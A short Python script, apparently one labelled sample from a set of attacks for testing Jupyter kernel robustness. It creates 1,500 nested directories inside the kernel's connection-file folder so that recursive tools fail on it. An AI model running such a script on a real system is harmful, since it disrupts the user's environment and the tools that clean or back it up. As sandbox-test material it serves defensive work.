"""Leaves folders within folders in the folder of its sockets, deeper than any recursion goes.

attack: disk
"""
import os
from ipykernel.connect import get_connection_file
os.chdir(os.path.dirname(get_connection_file()))
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
open("last", "w").close()
os.chdir("/")
